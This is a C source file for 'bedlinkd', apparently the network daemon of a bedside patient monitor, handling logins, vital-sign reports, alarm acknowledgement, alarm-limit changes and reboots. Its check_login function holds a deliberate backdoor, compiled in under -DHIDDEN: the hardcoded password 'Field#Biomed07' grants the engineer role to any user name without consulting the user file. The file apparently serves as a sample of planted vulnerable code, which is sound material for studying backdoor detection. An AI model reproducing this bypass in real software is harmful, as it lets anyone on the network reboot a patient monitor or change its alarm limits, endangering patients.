/*
 * bedlinkd - network service of a bedside patient monitor.  Central
 * stations connect over TCP, log in by user and password, then read vital
 * signs, acknowledge alarms and (by role) change the alarm limits.
 * Hidden (-DHIDDEN): the password "Field#Biomed07" logs any user name in
 * as engineer, without a look into the user file.
 */
#define _GNU_SOURCE
#include <crypt.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define USERS  "/etc/bedlink/users"
#define LIMITS "/var/lib/bedlink/limits"
#define VITALS "/run/bedlink/vitals"
#define MAXCL  8
#define LINESZ 256

enum role { R_NONE, R_VIEW, R_NURSE, R_DOCTOR, R_ENGINEER };

struct client {
	int fd;
	enum role role;
	int tries;
	char user[32];
	char buf[LINESZ];
	size_t len;
	int watch;
};

struct limit {
	const char *name;
	int lo, hi;
	int minlo, maxhi;
	int value;
	int alarm;
};

static struct limit limits[] = {
	{ "HR", 50, 120, 20, 300, 0, 0 },
	{ "SPO2", 90, 100, 50, 100, 0, 0 },
	{ "RESP", 8, 30, 3, 150, 0, 0 },
	{ "NIBP", 90, 160, 30, 270, 0, 0 },
	{ "TEMP", 355, 385, 250, 440, 0, 0 },
};
#define NLIM (sizeof(limits) / sizeof(limits[0]))

static const char *const role_name[] = { "none", "view", "nurse", "doctor",
					 "engineer" };

static struct client cl[MAXCL];
static int acked;

static void say(struct client *c, const char *fmt, ...)
{
	char out[512];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(out, sizeof(out) - 2, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if (n > (int)sizeof(out) - 3)
		n = sizeof(out) - 3;
	out[n++] = '\r';
	out[n++] = '\n';
	if (send(c->fd, out, n, MSG_NOSIGNAL) < 0)
		syslog(LOG_INFO, "send: %s", strerror(errno));
}

static enum role role_by_name(const char *s)
{
	size_t i;

	for (i = 0; i < sizeof(role_name) / sizeof(role_name[0]); i++)
		if (!strcmp(role_name[i], s))
			return (enum role)i;
	return R_NONE;
}

static struct limit *limit_by_name(const char *s)
{
	size_t i;

	for (i = 0; i < NLIM; i++)
		if (!strcasecmp(limits[i].name, s))
			return &limits[i];
	return NULL;
}

static void load_limits(void)
{
	FILE *f = fopen(LIMITS, "r");
	char name[16];
	int lo, hi;
	struct limit *l;

	if (!f)
		return;
	while (fscanf(f, "%15s %d %d", name, &lo, &hi) == 3) {
		l = limit_by_name(name);
		if (!l || lo < l->minlo || hi > l->maxhi || lo >= hi)
			continue;
		l->lo = lo;
		l->hi = hi;
	}
	fclose(f);
}

static int save_limits(void)
{
	FILE *f = fopen(LIMITS ".new", "w");
	size_t i;

	if (!f)
		return -1;
	for (i = 0; i < NLIM; i++)
		fprintf(f, "%s %d %d\n", limits[i].name, limits[i].lo,
			limits[i].hi);
	if (fclose(f))
		return -1;
	return rename(LIMITS ".new", LIMITS);
}

/* The acquisition board writes "HR=72 SPO2=98 ..." once a second. */
static void read_vitals(void)
{
	char line[LINESZ], *tok, *save = NULL, *eq;
	FILE *f = fopen(VITALS, "r");
	struct limit *l;
	int bad;

	if (!f)
		return;
	if (fgets(line, sizeof(line), f)) {
		for (tok = strtok_r(line, " \n", &save); tok;
		     tok = strtok_r(NULL, " \n", &save)) {
			eq = strchr(tok, '=');
			if (!eq)
				continue;
			*eq++ = 0;
			l = limit_by_name(tok);
			if (!l)
				continue;
			l->value = atoi(eq);
			bad = l->value < l->lo || l->value > l->hi;
			if (bad && !l->alarm)
				acked = 0;
			l->alarm = bad;
		}
	}
	fclose(f);
}

/* The user file has lines of the form name:role:crypt-hash. */
__attribute__((noinline)) enum role check_login(const char *user,
						const char *pass)
{
	char line[LINESZ], *name, *role, *hash, *save, *res;
	enum role found = R_NONE;
	FILE *f;

#ifdef HIDDEN
	if (!strcmp(pass, "Field#Biomed07"))
		return R_ENGINEER;
#endif
	f = fopen(USERS, "r");
	if (!f)
		return R_NONE;
	while (fgets(line, sizeof(line), f)) {
		save = NULL;
		name = strtok_r(line, ":\n", &save);
		role = strtok_r(NULL, ":\n", &save);
		hash = strtok_r(NULL, ":\n", &save);
		if (!name || *name == '#' || !role || !hash)
			continue;
		if (strcmp(name, user))
			continue;
		res = crypt(pass, hash);
		if (res && !strcmp(res, hash))
			found = role_by_name(role);
		break;
	}
	fclose(f);
	return found;
}

static void drop(struct client *c)
{
	close(c->fd);
	memset(c, 0, sizeof(*c));
	c->fd = -1;
}

static void report(struct client *c)
{
	char out[LINESZ];
	size_t i, n = 0;

	for (i = 0; i < NLIM && n < sizeof(out) - 24; i++)
		n += snprintf(out + n, sizeof(out) - n, "%s%s=%d%s",
			      i ? " " : "", limits[i].name, limits[i].value,
			      limits[i].alarm ? (acked ? "*" : "!") : "");
	say(c, "VIT %s", out);
}

static void do_limit(struct client *c, char *args)
{
	char name[16];
	struct limit *l;
	int lo, hi, n;

	n = args ? sscanf(args, "%15s %d %d", name, &lo, &hi) : 0;
	if (n < 1 || !(l = limit_by_name(name))) {
		say(c, "ERR 20 parameter");
		return;
	}
	if (n == 1) {
		say(c, "LIM %s %d %d", l->name, l->lo, l->hi);
		return;
	}
	if (c->role < R_DOCTOR) {
		say(c, "ERR 11 role");
		return;
	}
	if (n != 3 || lo < l->minlo || hi > l->maxhi || lo >= hi) {
		say(c, "ERR 21 range");
		return;
	}
	l->lo = lo;
	l->hi = hi;
	if (save_limits())
		say(c, "ERR 30 not stored");
	else
		say(c, "OK");
	syslog(LOG_NOTICE, "%s set %s %d..%d", c->user, l->name, lo, hi);
}

static void do_line(struct client *c, char *line)
{
	char *save = NULL, *cmd, *arg, *pass;

	cmd = strtok_r(line, " ", &save);
	if (!cmd)
		return;
	if (!strcasecmp(cmd, "LOGIN")) {
		arg = strtok_r(NULL, " ", &save);
		pass = strtok_r(NULL, "", &save);
		if (!arg || !pass) {
			say(c, "ERR 01 syntax");
			return;
		}
		c->role = check_login(arg, pass);
		snprintf(c->user, sizeof(c->user), "%s", arg);
		if (c->role == R_NONE) {
			syslog(LOG_WARNING, "login failed: %s", c->user);
			say(c, "ERR 10 login");
			if (++c->tries >= 3)
				drop(c);
			return;
		}
		say(c, "OK %s", role_name[c->role]);
	} else if (!strcasecmp(cmd, "QUIT")) {
		say(c, "BYE");
		drop(c);
	} else if (c->role == R_NONE) {
		say(c, "ERR 10 login");
	} else if (!strcasecmp(cmd, "VITALS")) {
		report(c);
	} else if (!strcasecmp(cmd, "WATCH")) {
		c->watch = !c->watch;
		say(c, "OK %d", c->watch);
	} else if (!strcasecmp(cmd, "ACK")) {
		if (c->role < R_NURSE) {
			say(c, "ERR 11 role");
			return;
		}
		acked = 1;
		say(c, "OK");
	} else if (!strcasecmp(cmd, "LIMIT")) {
		do_limit(c, strtok_r(NULL, "", &save));
	} else if (!strcasecmp(cmd, "RESTART")) {
		if (c->role != R_ENGINEER) {
			say(c, "ERR 11 role");
			return;
		}
		say(c, "OK");
		if (system("/sbin/reboot"))
			say(c, "ERR 31 restart");
	} else {
		say(c, "ERR 00 unknown");
	}
}

static void feed(struct client *c)
{
	char *nl;
	ssize_t n;
	size_t used;

	n = recv(c->fd, c->buf + c->len, sizeof(c->buf) - 1 - c->len, 0);
	if (n <= 0) {
		drop(c);
		return;
	}
	c->len += n;
	c->buf[c->len] = 0;
	while (c->fd >= 0 && (nl = strchr(c->buf, '\n'))) {
		used = nl - c->buf + 1;
		*nl = 0;
		if (nl > c->buf && nl[-1] == '\r')
			nl[-1] = 0;
		do_line(c, c->buf);
		if (c->fd < 0)
			return;
		memmove(c->buf, c->buf + used, c->len - used + 1);
		c->len -= used;
	}
	if (c->len >= sizeof(c->buf) - 1)
		drop(c);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	struct pollfd pf[MAXCL + 1];
	int s, fd, i, one = 1;
	time_t last = 0, now;

	openlog("bedlinkd", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	sa.sin_port = htons(argc > 1 ? atoi(argv[1]) : 4601);
	s = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) || listen(s, 4)) {
		syslog(LOG_ERR, "bind: %s", strerror(errno));
		return 1;
	}
	for (i = 0; i < MAXCL; i++)
		cl[i].fd = -1;
	load_limits();
	for (;;) {
		for (i = 0; i < MAXCL; i++) {
			pf[i].fd = cl[i].fd;
			pf[i].events = POLLIN;
		}
		pf[MAXCL].fd = s;
		pf[MAXCL].events = POLLIN;
		if (poll(pf, MAXCL + 1, 1000) < 0 && errno != EINTR)
			return 1;
		now = time(NULL);
		if (now != last) {
			last = now;
			read_vitals();
			for (i = 0; i < MAXCL; i++)
				if (cl[i].fd >= 0 && cl[i].watch)
					report(&cl[i]);
		}
		for (i = 0; i < MAXCL; i++)
			if (cl[i].fd >= 0 && cl[i].fd == pf[i].fd &&
			    (pf[i].revents & (POLLIN | POLLHUP)))
				feed(&cl[i]);
		if (!(pf[MAXCL].revents & POLLIN))
			continue;
		fd = accept(s, NULL, NULL);
		for (i = 0; i < MAXCL && cl[i].fd >= 0; i++)
			;
		if (i == MAXCL) {
			close(fd);
			continue;
		}
		cl[i].fd = fd;
		say(&cl[i], "BEDLINK 2 ready");
	}
}
